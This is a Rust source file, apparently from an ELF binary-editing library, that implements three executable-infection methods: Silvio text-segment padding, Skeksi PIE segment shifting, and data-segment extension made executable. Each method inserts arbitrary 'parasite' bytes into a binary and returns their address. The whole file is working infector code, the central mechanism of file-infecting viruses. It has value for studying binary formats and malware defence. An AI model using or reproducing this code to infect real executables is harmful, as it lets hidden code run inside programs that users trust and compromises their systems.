//! The infectors: prescripted compositions of the allocator and move engine
//! that carve out executable space for a parasite.
//!
//! Silvio pads the text segment's file image with one page and slides the
//! file tail; Skeksi shifts a PIE text segment one page down in memory and
//! hoists the lower segments above the old address space; the data infector
//! extends the highest-mapped LOAD and marks it executable.

use log::info;

use super::dynamic;
use super::program_header::{PF_R, PF_X, PT_LOAD};
use super::Elf;
use crate::align::{page_align, PAGE_SIZE};
use crate::error::{Error, Result};

fn page_padded(parasite: &[u8]) -> Result<Vec<u8>> {
    if parasite.is_empty() || parasite.len() as u64 > PAGE_SIZE {
        return Err(Error::Args(format!(
            "parasite of {} bytes (need 1..={PAGE_SIZE})",
            parasite.len()
        )));
    }
    let mut page = vec![0u8; PAGE_SIZE as usize];
    page[..parasite.len()].copy_from_slice(parasite);
    Ok(page)
}

impl Elf {
    fn text_segment(&self) -> Result<usize> {
        for i in 0..self.phnum() {
            let phdr = self.phdr(i)?;
            if phdr.p_type == PT_LOAD && phdr.p_flags == (PF_R | PF_X) {
                return Ok(i);
            }
        }
        Err(Error::SegmentNotFound(PT_LOAD))
    }

    /// Silvio text-padding infection: append `parasite` to the text
    /// segment, padding the file with a full page. Returns the parasite's
    /// virtual address; the entry point is untouched.
    pub fn infect_silvio(&mut self, parasite: &[u8]) -> Result<u64> {
        let page = page_padded(parasite)?;
        let size = parasite.len() as u64;

        let text = self.text_segment()?;
        let mut target = self.phdr(text)?;
        let parasite_addr = target.mem_end();
        let parasite_offset = target.file_end();
        target.p_memsz += size;
        target.p_filesz += size;
        self.set_phdr(text, target)?;
        info!("silvio: expanding text segment {text} at {parasite_addr:#x}");

        for i in 0..self.phnum() {
            let mut phdr = self.phdr(i)?;
            if phdr.p_type == PT_LOAD && phdr.p_offset > target.p_offset {
                phdr.p_offset += PAGE_SIZE;
                self.set_phdr(i, phdr)?;
            }
        }

        for i in 0..self.shnum() {
            let mut shdr = self.shdr(i)?;
            if shdr.sh_offset > parasite_offset {
                shdr.sh_offset += PAGE_SIZE;
                self.set_shdr(i, shdr)?;
            } else if shdr.sh_addr + shdr.sh_size == parasite_addr {
                shdr.sh_size += size;
                self.set_shdr(i, shdr)?;
            }
        }

        let mut head = self.header();
        head.e_shoff += PAGE_SIZE;
        self.set_header(head)?;

        self.insert_bytes(parasite_offset, &page)?;
        self.rederive()?;
        Ok(parasite_addr)
    }

    /// Skeksi PIE infection: grow the text segment one page downwards in
    /// memory, relocating every lower segment above the old address space,
    /// and insert the parasite page at the old text file offset. Returns
    /// the parasite's virtual address.
    pub fn infect_skeksi_pie(&mut self, parasite: &[u8]) -> Result<u64> {
        let page = page_padded(parasite)?;
        let (_, vend) = self.segment_address_range(PT_LOAD)?;
        let hoist = page_align(vend);

        let text = self.text_segment()?;
        let mut target = self.phdr(text)?;
        let origin_vaddr = target.p_vaddr;
        let origin_offset = target.p_offset;
        let origin_size = target.p_memsz;
        if origin_vaddr < PAGE_SIZE {
            return Err(Error::Args(format!(
                "text segment at {origin_vaddr:#x} leaves no page below it"
            )));
        }
        target.p_memsz += PAGE_SIZE;
        target.p_vaddr -= PAGE_SIZE;
        target.p_paddr -= PAGE_SIZE;
        let parasite_addr = target.p_vaddr;
        self.set_phdr(text, target)?;
        info!("skeksi: text segment {text} now starts at {parasite_addr:#x}");

        // memory layout: hoist everything mapped below the old text start
        for i in 0..self.phnum() {
            if i == text {
                continue;
            }
            let mut phdr = self.phdr(i)?;
            if phdr.p_vaddr < origin_vaddr {
                phdr.p_vaddr += hoist;
                phdr.p_paddr += hoist;
                self.set_phdr(i, phdr)?;
            }
        }
        for i in 0..self.shnum() {
            let mut shdr = self.shdr(i)?;
            if shdr.sh_addr == origin_vaddr {
                shdr.sh_addr -= PAGE_SIZE;
                shdr.sh_size += PAGE_SIZE;
                self.set_shdr(i, shdr)?;
            } else if shdr.sh_addr < origin_vaddr {
                shdr.sh_addr += hoist;
                self.set_shdr(i, shdr)?;
            }
        }
        let hoisted_tags = [
            dynamic::DT_STRTAB,
            dynamic::DT_SYMTAB,
            dynamic::DT_RELA,
            dynamic::DT_REL,
            dynamic::DT_JMPREL,
            dynamic::DT_VERNEED,
            dynamic::DT_VERSYM,
        ];
        for i in 0..self.dyn_count() {
            let mut entry = self.dyn_at(i)?;
            if hoisted_tags.contains(&entry.d_tag) {
                entry.d_val += hoist;
                self.set_dyn(i, entry)?;
            }
        }

        // file layout: one page opens at the old text offset
        for i in 0..self.phnum() {
            let mut phdr = self.phdr(i)?;
            if i == text {
                phdr.p_filesz += PAGE_SIZE;
                self.set_phdr(i, phdr)?;
            } else if phdr.p_offset > origin_offset {
                phdr.p_offset += PAGE_SIZE;
                self.set_phdr(i, phdr)?;
            }
        }
        for i in 0..self.shnum() {
            let mut shdr = self.shdr(i)?;
            if shdr.sh_offset >= origin_offset + origin_size {
                shdr.sh_offset += PAGE_SIZE;
                self.set_shdr(i, shdr)?;
            }
        }
        let mut head = self.header();
        head.e_shoff += PAGE_SIZE;
        self.set_header(head)?;

        self.insert_bytes(origin_offset, &page)?;
        self.rederive()?;
        Ok(parasite_addr)
    }

    /// Data-segment infection: extend the highest-mapped LOAD by the
    /// parasite, mark it executable, and splice the parasite in. Returns
    /// the parasite's virtual address.
    pub fn infect_data(&mut self, parasite: &[u8]) -> Result<u64> {
        if parasite.is_empty() {
            return Err(Error::Args("empty parasite".into()));
        }
        let size = parasite.len() as u64;
        let (_, vend) = self.segment_address_range(PT_LOAD)?;

        let mut data = None;
        for i in 0..self.phnum() {
            let phdr = self.phdr(i)?;
            if phdr.p_type == PT_LOAD && phdr.mem_end() == vend {
                data = Some(i);
                break;
            }
        }
        let data = data.ok_or(Error::SegmentNotFound(PT_LOAD))?;
        let mut target = self.phdr(data)?;
        let insertion = target.file_end();
        target.p_memsz += size;
        target.p_filesz += size;
        target.p_flags |= PF_X;
        self.set_phdr(data, target)?;
        info!("data infection: segment {data} grows at {insertion:#x}, now executable");

        for i in 0..self.shnum() {
            let mut shdr = self.shdr(i)?;
            if shdr.sh_addr + shdr.sh_size == vend {
                shdr.sh_size += size;
                self.set_shdr(i, shdr)?;
            } else if shdr.sh_offset >= insertion {
                shdr.sh_offset += size;
                self.set_shdr(i, shdr)?;
            }
        }
        let mut head = self.header();
        head.e_shoff += size;
        self.set_header(head)?;

        self.insert_bytes(insertion, parasite)?;
        self.rederive()?;
        Ok(vend)
    }
}
